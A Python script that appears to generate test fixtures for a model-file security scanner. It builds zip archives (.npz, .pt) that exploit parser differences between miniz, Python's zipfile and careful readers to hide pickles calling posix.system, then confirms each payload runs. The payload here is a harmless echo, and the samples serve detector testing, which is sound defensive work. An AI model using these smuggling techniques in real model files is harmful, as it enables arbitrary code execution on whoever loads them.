#!/usr/bin/python3
"""Writes samples/zip-differentials/: zip archives whose central directory PyTorch's reader (miniz)
or Python's zipfile (numpy.load) finds elsewhere than a careful reader would, each hiding a pickle
that calls posix.system, and expected.json. Found by an attack review; every sample is loaded once
by the real loader in a child process to prove that the payload runs (`echo`, harmless).

- eocd_in_comment.npz / eocd_in_comment.pt: a benign archive whose end record's comment holds the
  payload's entries, a second directory and a second end record that declares a comment longer than
  what is left. miniz and zipfile both take the last end-record signature (neither checks the
  comment), so they read the second directory.
- eocd_directory_after.pt: the same, the second end record's directory placed after it (miniz reads
  it; zipfile cannot).
- zip64_adjacent.npz: the zip64 locator points at a benign zip64 end record whose extensible data
  holds the payload's entries, a second directory and a second zip64 end record right before the
  locator. miniz follows the pointer; zipfile reads the record right before the locator.
- zip64_fallback.npz: no zip64 record right before the locator, so zipfile falls back to the 32-bit
  fields and finds a directory right before the end record (offsets shifted by the difference),
  another one than the one the fields name.
- zip64_second_extra.npz: the member's central record defers its local header offset to a zip64
  extra field whose value is 0xFFFFFFFF again; a second zip64 extra field holds the real offset.
  miniz reads the first field only; zipfile reads every one, each filling what is still 0xFFFFFFFF.

Run from the repository root with /usr/bin/python3 (Debian python3-numpy, python3-torch).
"""
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import zlib

import numpy as np

ROOT = os.path.join("samples", "zip-differentials")
PAYLOAD = "echo modelgate-sample"
MARK = b"modelgate-sample"
EXPECTED = {}
posix = __import__("posix")


class Evil:
    def __reduce__(self):
        return (posix.system, (PAYLOAD,))


def npy_object():
    """An object-array .npy whose pickle calls posix.system (numpy.load(allow_pickle=True) runs it)."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (64 - 10 - len(header) - 1) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + pickle.dumps(Evil(), protocol=2)


def npy_benign(n=4):
    b = io.BytesIO()
    np.save(b, np.arange(n))
    return b.getvalue()


def local(name, data):
    crc = zlib.crc32(data)
    nb = name.encode()
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(nb), 0)
    return head + nb + data, {"name": nb, "crc": crc, "size": len(data)}


def central(info, offset, comment=b""):
    return (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 0x314, 20, 0, 0, 0, 0x21, info["crc"], info["size"], info["size"],
            len(info["name"]), 0, len(comment), 0, 0, 0o100644 << 16, offset,
        )
        + info["name"]
        + comment
    )


def end_record(n, cd_size, cd_offset, comment_length=0):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_offset, comment_length)


def zip64_record(size, n, cd_size, cd_offset):
    return struct.pack("<IQHHIIQQQQ", 0x06064B50, size, 45, 45, 0, 0, n, n, cd_size, cd_offset)


def build(entries, base=0):
    """Local entries (stored) and their directory, offsets from `base`."""
    out = b""
    infos = []
    for name, data in entries:
        rec, info = local(name, data)
        infos.append((info, base + len(out)))
        out += rec
    return out, b"".join(central(i, o) for i, o in infos), len(infos)


def torch_entries():
    """The members of a real torch.save archive (renamed root `archive`)."""
    import torch

    b = io.BytesIO()
    torch.save({"w": torch.arange(3)}, b)
    import zipfile

    z = zipfile.ZipFile(io.BytesIO(b.getvalue()))
    root = z.namelist()[0].split("/")[0]
    return [("archive" + i.filename[len(root):], z.read(i)) for i in z.infolist()]


def torch_payload_entries():
    return [("archive/data.pkl", pickle.dumps(Evil(), protocol=2)), ("archive/version", b"3\n")]


def eocd_in_comment(benign, evil, directory_after=False):
    la, cda, na = build(benign)
    comment_start = len(la) + len(cda) + 22
    lm, cdb, nb = build(evil, base=comment_start)
    if directory_after:
        # the second end record, then its directory (miniz reads it there; zipfile cannot)
        b_at = comment_start + len(lm)
        tail = lm + end_record(nb, len(cdb), b_at + 22, 0) + cdb
    else:
        # its comment is declared 1 byte long with nothing after it
        tail = lm + cdb + end_record(nb, len(cdb), comment_start + len(lm), 1)
    return la + cda + end_record(na, len(cda), len(la), len(tail)) + tail


def zip64_adjacent(benign, evil):
    la, cda, na = build(benign)
    r1 = len(la) + len(cda)
    lm, cdb, nb = build(evil, base=r1 + 56)
    r2 = r1 + 56 + len(lm) + len(cdb)
    locator_at = r2 + 56
    rec1 = zip64_record(locator_at - r1 - 12, na, len(cda), len(la))  # its extensible data runs to the locator
    rec2 = zip64_record(44, nb, len(cdb), r1 + 56 + len(lm))
    locator = struct.pack("<IIQI", 0x07064B50, 0, r1, 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return la + cda + rec1 + lm + cdb + rec2 + locator + end


def zip64_fallback():
    lb, ib = local("x.npy", npy_benign(64))
    le, ie = local("x.npy", npy_object())
    cd_a = central(ib, 0, b"\0" * 20)
    size = len(cd_a)
    cd_a_at = len(lb)
    r1 = cd_a_at + size
    evil_at = r1 + 56  # inside the zip64 record's extensible data
    cd_b_at = evil_at + len(le)
    end_at = cd_b_at + size
    locator_at = end_at - 20
    shift = end_at - size - cd_a_at  # zipfile's `concat`
    assert evil_at - shift >= 0
    locator = struct.pack("<IIQI", 0x07064B50, 0, r1, 1)
    cd_b = central(ie, evil_at - shift, locator)  # the locator is the tail of its comment
    assert len(cd_b) == size
    rec1 = zip64_record(locator_at - r1 - 12, 1, size, cd_a_at)
    data = lb + cd_a + rec1 + le + cd_b + end_record(1, size, cd_a_at, 0)
    assert data[locator_at : locator_at + 4] == b"PK\x06\x07" and len(data) == end_at + 22
    return data


def zip64_second_extra():
    lb, ib = local("w.npy", npy_benign())
    le, ie = local("x.npy", npy_object())
    evil_at = len(lb)
    cd_b = central(ib, 0)
    extras = struct.pack("<HHQ", 1, 8, 0xFFFFFFFF) + struct.pack("<HHQ", 1, 8, evil_at)
    cd_e = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50, 0x314, 45, 0, 0, 0, 0x21, ie["crc"], ie["size"], ie["size"],
            len(ie["name"]), len(extras), 0, 0, 0, 0o100644 << 16, 0xFFFFFFFF,
        )
        + ie["name"]
        + extras
    )
    cd = cd_b + cd_e
    body = lb + le
    return body + cd + end_record(2, len(cd), len(body), 0)


def write(rel, data, loader, rules=("pickle/dangerous-global", "zip/inconsistent-directory")):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    code = {
        "numpy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)['x']",
        "torch": "import torch,sys; torch.load(sys.argv[1])",
    }[loader]
    r = subprocess.run([sys.executable, "-c", code, path], capture_output=True, timeout=120)
    if MARK not in r.stdout + r.stderr:
        raise SystemExit(f"{rel}: the payload did not run under {loader}: {r.stderr[-400:]!r}")
    EXPECTED[f"zip-differentials/{rel}"] = {
        "verdict": "malicious",
        "rules": list(rules),
        "callee": "posix.system",
    }


NPY_BENIGN = [("x.npy", npy_benign())]
NPY_EVIL = [("x.npy", npy_object())]
write("eocd_in_comment.npz", eocd_in_comment(NPY_BENIGN, NPY_EVIL), "numpy")
write("eocd_in_comment.pt", eocd_in_comment(torch_entries(), torch_payload_entries()), "torch")
write("eocd_directory_after.pt", eocd_in_comment(torch_entries(), torch_payload_entries(), True), "torch")
write("zip64_adjacent.npz", zip64_adjacent(NPY_BENIGN, NPY_EVIL), "numpy")
write("zip64_fallback.npz", zip64_fallback(), "numpy")
write("zip64_second_extra.npz", zip64_second_extra(), "numpy", rules=["pickle/dangerous-global", "zip/zip64-inconsistent"])

with open(os.path.join(ROOT, "expected.json"), "w") as f:
    json.dump(EXPECTED, f, indent=1, sort_keys=True)
    f.write("\n")
print(f"{ROOT}: {len(EXPECTED)} samples", file=sys.stderr)
